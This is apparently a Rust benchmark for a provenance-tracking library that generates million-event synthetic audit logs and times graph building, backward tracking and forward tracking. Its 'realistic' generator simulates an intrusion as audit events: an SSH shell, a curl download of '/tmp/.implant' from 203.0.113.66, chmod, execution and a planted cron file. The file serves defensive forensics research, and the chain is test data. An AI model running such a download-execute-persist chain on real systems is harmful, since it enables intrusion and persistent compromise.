//! Graph build, BackTracker and forward tracking on synthetic logs of a million events and more.
//!
//! `cargo run --release -p mamori-prov --example backtrack_bench [-- EVENTS [SHAPE]]`
//! (default 1,000,000 events per shape, every shape). Shapes:
//!
//! - `realistic`: a dozen daemons; sshd and nginx accept connections from many peers and fork
//!   short-lived workers that exec a program, map libraries, read configuration and user
//!   files, write temporary files (renamed into place or unlinked), sometimes ask DNS. Pids
//!   wrap at 32768, so they are reused. An intrusion is buried in the middle (a peer, a shell,
//!   a download, an implant that plants a cron file); at the end cron reads that file and
//!   writes the detection point. Backward from it; forward from the entry found.
//! - `chain`: each step forks from the previous one, execs, reads the previous step's output
//!   and writes its own: backtracking from the last output walks the whole log.
//! - `dense`: worst case: 2,000 processes read and write 64 shared files at random, so the
//!   backtrack reaches nearly every node and edge.

use std::time::{Duration, Instant};

use mamori_audit::AuditEvent;
use mamori_prov::testkit::{inet, Proc, Sim};
use mamori_prov::{
    backtrack, forward, BuildOptions, Direction, GraphBuilder, ProvGraph, PruneRules, StartSpec,
    Trace,
};

const T0: i64 = 1_765_022_400_000_000_000;

/// A log generator: events for about `n` events, and the detection point.
type Shape = fn(usize) -> (Vec<AuditEvent>, String);

/// xorshift64*: deterministic, no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

struct Pids(u32);

impl Pids {
    /// The next pid, wrapping at 32768 like a default `pid_max`.
    fn next(&mut self) -> u32 {
        self.0 = if self.0 >= 32_767 { 2_000 } else { self.0 + 1 };
        self.0
    }
}

const PROGRAMS: [&str; 12] = [
    "/usr/bin/python3",
    "/usr/bin/grep",
    "/usr/bin/awk",
    "/usr/bin/tar",
    "/usr/bin/gzip",
    "/usr/bin/sed",
    "/usr/bin/find",
    "/usr/bin/sort",
    "/usr/bin/php-cgi",
    "/usr/bin/rsync",
    "/usr/local/bin/report",
    "/usr/bin/sqlite3",
];

fn realistic(target: usize) -> (Vec<AuditEvent>, String) {
    let mut sim = Sim::new(T0);
    sim.step_ns = 250_000; // 4,000 events a second
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut pids = Pids(2_000);
    let mut sshd = Proc::new(700, 1, "/usr/sbin/sshd");
    let mut nginx = Proc::new(710, 1, "/usr/sbin/nginx").uid(33);
    let cron = Proc::new(720, 1, "/usr/sbin/cron");
    let ssh_l = sim.bind(&mut sshd, inet("0.0.0.0", 22));
    let web_l = sim.bind(&mut nginx, inet("0.0.0.0", 443));
    let mut daemons: Vec<Proc> = (0..9)
        .map(|i| Proc::new(730 + i, 1, PROGRAMS[i as usize]).uid(100 + i))
        .collect();
    let mut tmp_inode = 50_000_000u64;
    let mut attacked = false;
    let attack_at = target / 2;
    while sim.events.len() < target {
        if !attacked && sim.events.len() >= attack_at {
            attacked = true;
            intrusion(&mut sim, &mut sshd, ssh_l, &mut pids);
            continue;
        }
        // Who starts a worker: sshd or nginx for a connection, cron, or another daemon.
        let pick = rng.below(10);
        let parent = match pick {
            0..=1 => {
                let peer = inet(
                    &format!("198.51.{}.{}", rng.below(256), rng.below(256)),
                    (1024 + rng.below(60_000)) as u16,
                );
                let fd = sim.accept(&mut sshd, ssh_l, peer);
                let child = sshd.clone();
                // The daemon closes its copy of the connection after the fork.
                sshd.release_fd(fd);
                child
            }
            2..=5 => {
                let peer = inet(
                    &format!("192.0.2.{}", rng.below(256)),
                    (1024 + rng.below(60_000)) as u16,
                );
                let fd = sim.accept(&mut nginx, web_l, peer);
                let child = nginx.clone();
                nginx.release_fd(fd);
                child
            }
            6 => cron.clone(),
            _ => daemons[rng.below(daemons.len() as u64) as usize].clone(),
        };
        let mut w = sim.fork(&parent, pids.next());
        let prog = PROGRAMS[rng.below(PROGRAMS.len() as u64) as usize];
        sim.exec(&mut w, prog, 100 + rng.below(12), &[prog, "--job", "x"]);
        for _ in 0..3 {
            let lib = rng.below(40);
            let fd = w.alloc_fd();
            sim.mmap_exec(
                &w,
                fd,
                &format!("/usr/lib/x86_64-linux-gnu/lib{lib}.so.1"),
                1_000 + lib,
            );
        }
        sim.open_read(&mut w, "/etc/ld.so.cache", 2_000);
        let conf = rng.below(200);
        sim.open_read(&mut w, &format!("/etc/app/conf{conf}.ini"), 3_000 + conf);
        let user = rng.below(200);
        for _ in 0..2 {
            let doc = rng.below(100);
            sim.open_read(
                &mut w,
                &format!("/home/u{user}/doc{doc}"),
                10_000_000 + user * 1_000 + doc,
            );
        }
        sim.open_read(&mut w, "/proc/self/status", 4_000);
        if rng.below(4) == 0 {
            sim.connect(&mut w, inet("198.51.100.53", 53));
        }
        tmp_inode += 1;
        let tmp = format!("/tmp/job{tmp_inode}");
        let fd = sim.create(&mut w, &tmp, tmp_inode);
        sim.write_fd(&w, fd);
        if rng.below(3) == 0 {
            // Publish: rename over a user document.
            let doc = rng.below(100);
            let dst = format!("/home/u{user}/doc{doc}");
            sim.rename(
                &w,
                &tmp,
                &dst,
                tmp_inode,
                Some(10_000_000 + user * 1_000 + doc),
            );
        } else {
            sim.unlink(&w, &tmp, tmp_inode);
        }
        sim.exit(&w);
        if pick == 9 {
            daemons.rotate_left(1);
        }
    }
    // The end: cron runs the planted job, which writes the detection point.
    let mut job = sim.fork(&cron, pids.next());
    sim.exec(
        &mut job,
        "/bin/sh",
        5,
        &["/bin/sh", "-c", "/etc/cron.d/sysupdate"],
    );
    sim.open_read(&mut job, "/etc/cron.d/sysupdate", 9_000_002);
    sim.create(&mut job, "/var/spool/result", 9_000_003);
    (sim.events, "file:/var/spool/result".into())
}

fn intrusion(sim: &mut Sim, sshd: &mut Proc, lfd: i64, pids: &mut Pids) {
    sim.accept(sshd, lfd, inet("203.0.113.66", 40001));
    let mut sh = sim.fork(sshd, pids.next());
    sim.exec(&mut sh, "/bin/bash", 5, &["-bash"]);
    let mut curl = sim.fork(&sh, pids.next());
    sim.exec(
        &mut curl,
        "/usr/bin/curl",
        6,
        &["curl", "-o", "/tmp/.implant", "http://203.0.113.66/i"],
    );
    sim.connect(&mut curl, inet("203.0.113.66", 80));
    sim.create(&mut curl, "/tmp/.implant", 9_000_001);
    sim.exit(&curl);
    sim.chmod(&sh, "/tmp/.implant", 9_000_001, 0o755);
    let mut imp = sim.fork(&sh, pids.next());
    sim.exec(&mut imp, "/tmp/.implant", 9_000_001, &["/tmp/.implant"]);
    sim.create(&mut imp, "/etc/cron.d/sysupdate", 9_000_002);
}

fn chain(target: usize) -> (Vec<AuditEvent>, String) {
    let mut sim = Sim::new(T0);
    sim.step_ns = 100_000;
    let mut pids = Pids(2_000);
    let mut prev = Proc::new(1_000, 1, "/usr/bin/make");
    let mut step = 0u64;
    sim.create(&mut prev, "/build/out0", 20_000_000);
    while sim.events.len() < target {
        step += 1;
        let mut p = sim.fork(&prev, pids.next());
        sim.exec(&mut p, "/usr/bin/cc", 7, &["cc", "-c", "x.c"]);
        let a = sim.open_read(
            &mut p,
            &format!("/build/out{}", step - 1),
            20_000_000 + step - 1,
        );
        let b = sim.create(&mut p, &format!("/build/out{step}"), 20_000_000 + step);
        p.release_fd(a);
        p.release_fd(b);
        prev = p;
    }
    (sim.events, format!("file:/build/out{step}"))
}

fn dense(target: usize) -> (Vec<AuditEvent>, String) {
    let mut sim = Sim::new(T0);
    sim.step_ns = 100_000;
    let mut rng = Rng(42);
    let mut procs: Vec<Proc> = (0..2_000)
        .map(|i| Proc::new(3_000 + i, 1, PROGRAMS[(i % 12) as usize]))
        .collect();
    let mut last = 0;
    while sim.events.len() < target {
        let p = &mut procs[rng.below(2_000) as usize];
        let f = rng.below(64);
        let path = format!("/srv/shared/f{f}");
        let fd = if rng.below(2) == 0 {
            sim.open_read(p, &path, 30_000_000 + f)
        } else {
            last = f;
            sim.open_write(p, &path, 30_000_000 + f)
        };
        p.release_fd(fd);
    }
    (sim.events, format!("file:/srv/shared/f{last}"))
}

struct Row {
    shape: &'static str,
    events: usize,
    gen: Duration,
    nodes: usize,
    edges: usize,
    build: Duration,
    back: Trace,
    fwd: Option<Trace>,
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

fn run(shape: &'static str, make: Shape, n: usize) -> Row {
    let t = Instant::now();
    let (events, spec) = make(n);
    let gen = t.elapsed();
    let t = Instant::now();
    let mut b = GraphBuilder::new(BuildOptions::default());
    for ev in &events {
        b.push(ev);
    }
    let g: ProvGraph = b.finish();
    let build = t.elapsed();
    let rules = PruneRules::default();
    let start: StartSpec = spec.parse().expect("spec");
    let anchor = start.resolve(&g, Direction::Backward).expect("resolve");
    // The events stay alive until tracking is done: freeing a million events' small
    // allocations first makes glibc consolidate them on the tracker's first large allocation,
    // which would be timed as tracking.
    let back = backtrack(&g, anchor, &rules);
    let fwd = back.entry.as_ref().map(|e| forward(&g, e.anchor(), &rules));
    if shape == "realistic" {
        if let Some(e) = &back.entry {
            eprintln!("realistic: entry {} ({:?})", g.label(e.node), e.kind);
        }
        let r = mamori_prov::Report::new(&g, &back, &spec);
        let chain: Vec<&str> = r.chain.iter().map(|s| s.label.as_str()).collect();
        eprintln!("realistic: chain {}", chain.join(" → "));
    }
    drop(events);
    Row {
        shape,
        events: g.stats().events as usize,
        gen,
        nodes: g.nodes().len(),
        edges: g.edges().len(),
        build,
        back,
        fwd,
    }
}

fn main() {
    let n: usize = std::env::args()
        .nth(1)
        .and_then(|s| s.replace('_', "").parse().ok())
        .unwrap_or(1_000_000);
    let shapes: [(&'static str, Shape); 3] =
        [("realistic", realistic), ("chain", chain), ("dense", dense)];
    println!(
        "| shape | events | graph nodes | graph edges | generate ms | build ms | build Mev/s | backtrack ms | back nodes | back edges | forward ms | fwd nodes | fwd edges |"
    );
    println!("|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|");
    let only = std::env::args().nth(2);
    for (shape, make) in shapes {
        if only.as_deref().is_some_and(|o| o != shape) {
            continue;
        }
        let r = run(shape, make, n);
        let (fms, fnodes, fedges) = match &r.fwd {
            Some(f) => (
                format!("{:.1}", ms(f.elapsed)),
                f.nodes.len().to_string(),
                f.edges.len().to_string(),
            ),
            None => ("-".into(), "-".into(), "-".into()),
        };
        println!(
            "| {} | {} | {} | {} | {:.0} | {:.0} | {:.2} | {:.1} | {} | {} | {} | {} | {} |",
            r.shape,
            r.events,
            r.nodes,
            r.edges,
            ms(r.gen),
            ms(r.build),
            r.events as f64 / r.build.as_secs_f64() / 1e6,
            ms(r.back.elapsed),
            r.back.nodes.len(),
            r.back.edges.len(),
            fms,
            fnodes,
            fedges
        );
    }
}
